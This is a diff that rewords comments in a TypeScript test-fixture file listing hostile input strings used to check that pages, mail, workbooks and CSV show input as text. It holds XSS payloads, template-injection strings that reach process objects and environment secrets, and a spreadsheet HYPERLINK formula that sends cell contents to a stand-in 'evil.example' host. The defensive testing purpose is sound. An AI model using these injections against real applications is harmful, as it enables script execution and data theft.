@@ -1,12 +1,12 @@
-// What attackers and accidents type into every box there is: each a payload, in each of the wrappers that have got such
-// payloads past a check somewhere. Whatever shows one must show it as text: pages, mail, workbooks, CSV.
+// Inputs of attackers and accidents: each payload in each wrapper known to have bypassed some check. Pages, mail,
+// workbooks and CSV must show them as text.
 
-/** Set on `window` by every script below that gets to run: a page in which it is not undefined ran one. */
+/** Set on `window` by every script below that runs. */
 export const RAN = 'hostileScriptRan'
 
 const RUN = `window.${RAN}=1`
 
-/** Run by a page that takes them for markup. */
+/** Run by a page that treats them as markup. */
 const MARKUP = [
   `<script>${RUN}</script>`,
   `<ScRiPt>${RUN}</sCrIpT >`,
@@ -32,7 +32,7 @@ const MARKUP = [
   `<template shadowrootmode=open><script>${RUN}</script></template>`,
 ] as const
 
-/** Run by a spreadsheet that takes them for formulas. */
+/** Run by a spreadsheet that treats them as formulas. */
 const FORMULAS = [
   '=1+1',
   '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
@@ -53,7 +53,7 @@ const FORMULAS = [
   '";=1+1;"',
 ] as const
 
-/** Run or resolved by a template, a query, a log or a path. */
+/** Evaluated or resolved by a template, a query, a log or a path. */
 const INJECTIONS = [
   '{{constructor.constructor("return process")()}}',
   '${process.env.SECRET}',
@@ -102,7 +102,7 @@ const INJECTIONS = [
   '</script></textarea></style></title>',
 ] as const
 
-/** Break what measures, orders or draws text. */
+/** Break code that measures, sorts or renders text. */
 const TEXTS = [
   '\u202Egpj.exe',
   '\u202Dabc\u202C',
@@ -137,7 +137,7 @@ const TEXTS = [
   '#REF!',
 ] as const
 
-/** No text in a database, an XML file or UTF-8 can hold these as they are: refused with words, or left out. */
+/** Not storable in a database, an XML file or UTF-8: refused with a message, or left out. */
 const UNSTORABLE = [
   'nul\0in the middle',
   '\0',
@@ -147,7 +147,7 @@ const UNSTORABLE = [
   '\uDE00 the other half',
 ] as const
 
-/** Fine in a database; in XML 1.0 they are no characters at all. */
+/** Allowed in a database, but not in XML 1.0. */
 const CONTROLS = [
   'bell\u0007 and escape\u001B[31m red',
   '\u0001\u0002\u0003\u0004\u0005\u0006\u0008\u000E\u001F',
@@ -173,11 +173,11 @@ const WRAPPERS: readonly ((payload: string) => string)[] = [
   (payload) => ` \u00A0${payload}`,
   (payload) => `"'>${payload}`,
   (payload) => `\t${payload}\r\n`,
-  // Neither is a blank, and neither is seen.
+  // Neither is whitespace, and both are invisible.
   (payload) => `\u200B\u202E${payload}`,
 ]
 
-/** Every one of them, none twice. */
+/** All of them, without duplicates. */
 export const HOSTILE_STRINGS: readonly string[] = [
   ...new Set([
     ...[...MARKUP, ...FORMULAS, ...INJECTIONS, ...TEXTS, ...CONTROLS].flatMap((payload) =>
@@ -188,7 +188,7 @@ export const HOSTILE_STRINGS: readonly string[] = [
   ]),
 ]
 
-/** Those a database can hold: without NUL, in whole characters. */
+/** Those a database can store: without NUL or lone surrogates. */
 export const STORABLE_HOSTILE_STRINGS: readonly string[] = HOSTILE_STRINGS.filter(
   (text) => !text.includes('\0') && text.isWellFormed(),
 )
